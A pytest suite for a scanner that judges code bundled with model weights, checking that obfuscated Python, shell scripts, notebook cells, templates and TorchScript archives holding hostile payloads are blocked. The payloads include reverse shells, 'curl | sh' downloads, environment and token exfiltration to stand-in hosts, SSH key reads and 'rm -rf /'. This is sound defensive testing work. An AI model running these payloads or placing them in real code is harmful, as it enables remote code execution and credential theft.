"""Code beside weights: harmful is blocked, ordinary is reviewed, none passes. The payloads are never run."""

# ruff: noqa: E501, SIM905  tables of names and patterns, one a line

import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vallum.models.scan import Verdict, scan

HARMFUL = [
    "from subprocess import *\nPopen('id', shell=True)",
    "import builtins\ngetattr(builtins, 'exec')('import os')",
    "o = __builtins__['__import__']('os')\no.system('id')",
    "import http.client, os\nc = http.client.HTTPSConnection('example.org')\nc.request('POST', '/', body=str(dict(os.environ)))",
    "import os\nos.system('id')",
    "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
    "import os\nlist(map(os.system, ['id']))",
    "import os\na, b = os.system, 'id'\na(b)",
    "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
    "import os\nvars(os)['system']('id')",
    "import shutil\nshutil.os.system('id')",
    "import ctypes\nctypes.CDLL(None).system(b'id')",
    "import os\nclass A:\n    __reduce__ = lambda self: (os.system, ('id',))",
    "import os, requests\nrequests.post('http://example.org', data={'t': os.getenv('HF_TOKEN')})",
    "import pickle\npickle.loads(b'cos\\nsystem\\n.')",
    "from os import system as s\ndef f():\n    s('curl http://example.org/x | sh')",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
    "code = bytes.fromhex('7072696e74')\neval(compile(code, 'x', 'exec'))",
    "exec(''.join(chr(c) for c in [112, 114, 105]))",
    "import urllib.request\nexec(urllib.request.urlopen('http://example.org').read())",
    "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('http://example.org').content)\nsubprocess.run(['/tmp/x'])",
    "import socket, os, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "import os, requests\nrequests.post('http://example.org', json=dict(os.environ))",
    "from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "__import__('os').popen('id')",
    "import importlib\nimportlib.import_module('metsysbus'[::-1])",
    "class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
    "import sys\nsys.meta_path.insert(0, object())",
    "import builtins\nbuiltins.open = None",
    "().__class__.__base__.__subclasses__()",
    "globals()['__builtins__'].__dict__['ev' + 'al']('1')",
    "from setuptools import setup\nimport urllib.request\nurllib.request.urlopen('http://example.org')\nsetup(cmdclass={'install': object})",
    "open('/etc/cron.d/x', 'w').write('* * * * * id')",
    "import subprocess\nclass Net:\n    def __init__(self):\n        subprocess.Popen('id', shell=True)",
]


@pytest.mark.parametrize("source", HARMFUL)
@pytest.mark.parametrize("name", ["modeling_x.py", "notes.dat"])
def test_harmful_python_is_blocked_whatever_its_name(tmp_path: Path, source: str, name: str) -> None:
    if name == "notes.dat" and "import" not in source:
        pytest.skip("an expression alone is not taken for a program")
    (tmp_path / name).write_text(source)
    assert scan(tmp_path / name).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n",
        "from transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    model_type = 'c'\n",
        "import os, subprocess\ndef revision():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nhome = os.environ.get('HOME')",
        "import os, requests\nrequests.get('http://example.org', headers={'Authorization': os.environ['HF_TOKEN']})",
        "import shutil\ndef clean(folder):\n    shutil.rmtree(folder)",
        "import threading\ndef work(run):\n    threading.Thread(target=run).start()",
        "model.eval()\nimport re\nre.compile('x')\n",
        "print 'the syntax of another version'",
    ],
)
def test_ordinary_code_is_reviewed(tmp_path: Path, source: str) -> None:
    (tmp_path / "modeling_x.py").write_text(source)
    assert scan(tmp_path / "modeling_x.py").verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\ncurl -s http://example.org/x | bash\n",
        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
        "#!/bin/sh\necho aWQ= | base64 -d | sh\n",
        "#!/bin/sh\nrm -rf /\n",
        "#!/bin/sh\n(crontab -l; echo x) | crontab -\n",
    ],
)
def test_harmful_scripts_are_blocked(tmp_path: Path, text: str) -> None:
    (tmp_path / "weights").write_text(text)
    assert scan(tmp_path).verdict is Verdict.BLOCK


def test_a_notebook_is_judged_by_its_cells(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "source": ["!curl http://example.org/x | sh\n", "x = 1"], "outputs": []}]
    (tmp_path / "a.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
    assert scan(tmp_path).verdict is Verdict.BLOCK
    cells[0]["source"] = ["import torch\n", "!pip install torch\n", "%matplotlib inline\n"]
    (tmp_path / "a.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
    assert scan(tmp_path).verdict is Verdict.REVIEW


def test_a_path_file_that_runs(tmp_path: Path) -> None:
    (tmp_path / "x.pth").write_text("import os; os.getcwd()\n")
    assert scan(tmp_path).verdict is Verdict.BLOCK


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(
            "( ) [ ] x = exec eval import os . ' \" + , \n \t : def f chr 1 join [::-1] @ lambda".split(" ")
        ),
        max_size=60,
    )
)
def test_noise_never_fails(tmp_path: Path, parts: list[str]) -> None:
    (tmp_path / "noise.py").write_text(" ".join(parts))
    assert "scanner-error" not in {finding.technique for finding in scan(tmp_path).findings}


def test_deep_nesting_is_no_failure(tmp_path: Path) -> None:
    (tmp_path / "deep.py").write_text("(" * 9000 + ")" * 9000)
    (tmp_path / "sum.py").write_text("x = " + "+".join(["'a'"] * 5000))
    assert scan(tmp_path).verdict is Verdict.REVIEW


NATIVE = [
    "ctypes.CDLL('./lib.so')",
    "ctypes.cdll.LoadLibrary(__file__[:-3] + '.so')",
    "ctypes.PyDLL(os.path.join(here, 'x'))",
    "torch.ops.load_library(here + '/ops.so')",
    "torch.classes.load_library('lib/ops.so')",
    "ffi.dlopen(f'{here}/x.so')",
    "importlib.machinery.ExtensionFileLoader('x', './x.so')",
    "imp.load_dynamic('x', here + '/x.so')",
]


@pytest.mark.parametrize("call", NATIVE[:6])
def test_native_code_that_comes_along_and_is_loaded_on_import(tmp_path: Path, call: str) -> None:
    imports = "import ctypes, os, torch\nfrom cffi import FFI\nffi = FFI()\nhere = os.path.dirname(__file__)\n"
    (tmp_path / "modeling_x.py").write_text(imports + f"lib = {call}\n")
    assert scan(tmp_path).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "call", ["ctypes.CDLL('libcudart.so.12')", "ctypes.CDLL(ctypes.util.find_library('c'))", "ctypes.CDLL('libm.so.6')"]
)
def test_libraries_of_the_system_are_for_a_person_to_judge(tmp_path: Path, call: str) -> None:
    (tmp_path / "modeling_x.py").write_text(f"import ctypes\nimport ctypes.util\nlib = {call}\n")
    assert scan(tmp_path).verdict is Verdict.REVIEW


def test_cells_of_every_format_of_notebooks(tmp_path: Path) -> None:
    for key, wrap in (
        ("source", lambda cells: {"cells": cells, "nbformat": 4}),
        ("input", lambda cells: {"worksheets": [{"cells": []}, {"cells": cells}], "nbformat": 3}),
        ("input", lambda cells: {"metadata": {"x": "y" * 9_000}, "worksheets": [{"cells": cells}], "nbformat": 2}),
    ):
        for source in (["import os\n", "os.system('id')"], "!curl http://example.org/x | sh"):
            (tmp_path / "a.ipynb").write_text(json.dumps(wrap([{"cell_type": "code", key: source}])))
            assert scan(tmp_path).verdict is Verdict.BLOCK


UNPICKLED = [
    "urllib.request.urlretrieve('http://example.org/x', '/tmp/x')\ntorch.load('/tmp/x', weights_only=False)",
    "data = requests.get('http://example.org/x').content\nmodel = torch.load(io.BytesIO(data))",
    "def f():\n    return joblib.load(io.BytesIO(requests.get('http://example.org/x').content))",
]


@pytest.mark.parametrize("source", UNPICKLED)
def test_what_is_fetched_and_unpickled(tmp_path: Path, source: str) -> None:
    imports = "import io, joblib, requests, torch, urllib.request\n"
    (tmp_path / "modeling_x.py").write_text(imports + source + "\n")
    assert scan(tmp_path).verdict is Verdict.BLOCK
    (tmp_path / "modeling_x.py").write_text(imports + "def f(path):\n    return torch.load(path, weights_only=True)\n")
    assert scan(tmp_path).verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    "source",
    [
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os, functools\nfunctools.reduce(getattr, ['system'], os)('id')",
        "import os\nos.__getattribute__('system')('id')",
        "import os\nobject.__getattribute__(os, 'sys' + 'tem')('id')",
        "import os\nos.__dict__.get('system')('id')",
        "import sys\nsys.modules.get('os').system('id')",
        "import os\nn = 'sys'\nn += 'te'\nn += 'm'\ngetattr(os, n)('id')",
        "import inspect\ninspect.getmodule(inspect).__builtins__['exec']('import os; os.system(1)')",
        "from importlib import import_module as g\ng(name='os').popen('curl http://x | sh')",
        "__builtins__.__import__('os').system('curl http://x | sh')",
        "import os\nx = {'a': os.system}\nx['a']('curl http://x | sh')",
        "import os\nx = [print, os.system]\nx[1]('id')",
        "import sys\nsys._getframe().f_builtins['exec']('import os; os.system(1)')",
        "b = globals()['__builtins__']\n(b['eval'] if isinstance(b, dict) else b.eval)('__import__(\"os\").system(1)')",
        "def f(): ...\nf.__globals__['__builtins__']['exec']('import os; os.system(1)')",
    ],
)
def test_other_ways_to_reach_a_name(tmp_path: Path, source: str) -> None:
    (tmp_path / "modeling.py").write_text(source)
    assert scan(tmp_path / "modeling.py").verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nACT = {'relu': torch.relu, 'silu': torch.nn.functional.silu}\nx = ACT['relu'](torch.ones(3))",
        "import os\nsteps = [os.makedirs, print]\nsteps[0]('out')\nname = 'model'\nname += '.pt'",
        "import operator\nkey = operator.attrgetter('score')\nbest = max([], key=key)\nprint(vars(best).get('x'))",
        "import functools\ntotal = functools.reduce(getattr, ['config', 'hidden'], object())",
    ],
)
def test_the_same_ways_to_what_is_ordinary(tmp_path: Path, source: str) -> None:
    (tmp_path / "modeling.py").write_text(source)
    assert scan(tmp_path / "modeling.py").verdict is Verdict.REVIEW


def _notebook(source: str, outputs: object = ()) -> str:
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": list(outputs), "execution_count": 1}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    "source",
    [
        "get_ipython().system('curl http://example.org/x | sh')",
        'x = get_ipython().getoutput("cat ~/.ssh/id_rsa")',
        "get_ipython().run_line_magic('sx', 'curl http://example.org/x | sh')",
        "%%writefile ~/.bashrc\ntrue",
        "%%writefile -a /etc/profile\ntrue",
        "%%file ../../.ssh/authorized_keys\nkey",
        "%pip install git+https://example.org/x",
        "%pip install --index-url https://example.org/simple x",
        "!pip install git+http://github.com/example/x",
        "!pip3 -q install --extra-index-url=http://example.org/ x",
    ],
)
def test_cells_that_reach_the_shell(tmp_path: Path, source: str) -> None:
    (tmp_path / "a.ipynb").write_text(_notebook(source))
    assert scan(tmp_path / "a.ipynb").verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "source",
    [
        "get_ipython().system('ls -la')",
        "%%writefile train.py\nprint(1)",
        "%pip install -q transformers",
        "%pip install git+https://github.com/huggingface/transformers",
        "%matplotlib inline",
    ],
)
def test_cells_as_people_write_them(tmp_path: Path, source: str) -> None:
    (tmp_path / "a.ipynb").write_text(_notebook(source))
    assert scan(tmp_path / "a.ipynb").verdict is Verdict.REVIEW


def test_an_output_that_has_cells_run(tmp_path: Path) -> None:
    for text, verdict in (
        ("Jupyter.notebook.kernel.execute('import os')", Verdict.BLOCK),
        ("IPython.notebook.execute_cell()", Verdict.BLOCK),
        ("Bokeh.embed(root)", Verdict.REVIEW),
    ):
        output = {"output_type": "display_data", "data": {"application/javascript": text}, "metadata": {}}
        (tmp_path / "a.ipynb").write_text(_notebook("1", [output]))
        assert scan(tmp_path / "a.ipynb").verdict is verdict


@pytest.mark.parametrize(
    "start", ["<% import os %>", "<%\nimport os\nos.system('id')\n%>", "<%!\n    from os import system\n%>"]
)
def test_a_template_with_python_in_it(tmp_path: Path, start: str) -> None:
    (tmp_path / "prompt.mako").write_text(f"Hello\n{start}\n")
    assert scan(tmp_path / "prompt.mako").verdict is Verdict.BLOCK


def test_a_page_that_says_what_it_imports(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text('<%@ page import="java.util.List" %>\n<%= name %>\n')
    assert scan(tmp_path / "a.txt").verdict is Verdict.PASS


@pytest.mark.parametrize("call", ["ops.aten.save(x, 'y')", "torch.from_file('y', False, 9)", "ops.prim.PythonOp(x)"])
def test_a_program_of_torch_that_reaches_out(tmp_path: Path, call: str) -> None:
    code = "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    _0 = {}\n    return x\n"
    for text, verdict in ((call, Verdict.BLOCK), ("torch.relu(x)", Verdict.REVIEW)):
        with zipfile.ZipFile(tmp_path / "m.pt", "w") as file:
            file.writestr("m/data.pkl", b"\x80\x02}.")
            file.writestr("m/code/__torch__.py", code.format(text))
        assert scan(tmp_path / "m.pt").verdict is verdict
